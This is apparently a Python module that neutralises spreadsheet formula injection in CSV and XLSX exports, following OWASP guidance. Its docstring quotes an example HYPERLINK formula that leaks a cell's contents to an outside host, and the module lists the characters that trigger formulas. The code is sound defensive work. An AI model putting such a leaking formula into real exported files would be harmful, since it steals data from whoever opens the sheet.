"""Text cells that a spreadsheet shows as text: the guard against formula injection.

Excel and LibreOffice run a cell of a CSV file that begins with ``=``, ``+``, ``-`` or ``@``
(or a tab, carriage return or line feed before one) as a formula, so a note typed as
``=HYPERLINK("http://…?leak="&A1,"click")`` would become a link that leaks the sheet.
Following OWASP ("CSV injection"), every text cell the workbook writes to CSV or XLSX goes
through :func:`neutralise_cell`, which puts a single quote ``'`` before such a cell; what
reads those files back applies :func:`restore_cell`, its exact inverse. A cell that already
begins with quotes followed by one of those characters gets one more quote, so the round
trip is exact for any text: ``restore_cell(neutralise_cell(text)) == text``.

This module imports nothing of the workbook, so every writer (archives, exports) can use it.
"""

from __future__ import annotations

from collections.abc import Iterable

__all__ = ["FORMULA_TRIGGERS", "neutralise_cell", "neutralise_row", "restore_cell"]

#: The first characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def _guarded(text: str) -> bool:
    """Tell whether *text* is quotes (maybe none) followed by a formula trigger."""
    return text.lstrip("'").startswith(FORMULA_TRIGGERS)


def neutralise_cell(value: object) -> object:
    """Make a text cell safe to open in a spreadsheet; leave other values as they are.

    Parameters
    ----------
    value : object
        A cell about to be written to a CSV or XLSX file.

    Returns
    -------
    object
        *value* with a ``'`` in front when it is text a spreadsheet would run as a formula
        (or text that :func:`restore_cell` would otherwise shorten); anything else unchanged.

    Examples
    --------
    >>> neutralise_cell("=1+1")
    "'=1+1"
    >>> neutralise_cell("'=1+1")
    "''=1+1"
    >>> neutralise_cell("a=b"), neutralise_cell("'quoted"), neutralise_cell(4)
    ('a=b', "'quoted", 4)
    """
    if isinstance(value, str) and _guarded(value):
        return "'" + value
    return value


def restore_cell(value: object) -> object:
    """Undo :func:`neutralise_cell`: give back the text as it was typed.

    Parameters
    ----------
    value : object
        A cell read from a file the workbook wrote.

    Returns
    -------
    object
        The text without the quote :func:`neutralise_cell` added; anything else unchanged.

    Examples
    --------
    >>> restore_cell("'=1+1"), restore_cell("''=1+1"), restore_cell("'quoted")
    ('=1+1', "'=1+1", "'quoted")
    """
    if isinstance(value, str) and value.startswith("'") and _guarded(value):
        return value[1:]
    return value


def neutralise_row(values: Iterable[object]) -> list[object]:
    """Apply :func:`neutralise_cell` to every cell of a row.

    Parameters
    ----------
    values : iterable
        The row's cells.

    Returns
    -------
    list
        The cells, text ones made safe.

    Examples
    --------
    >>> neutralise_row(["@SUM(A1)", "ok", 3])
    ["'@SUM(A1)", 'ok', 3]
    """
    return [neutralise_cell(value) for value in values]
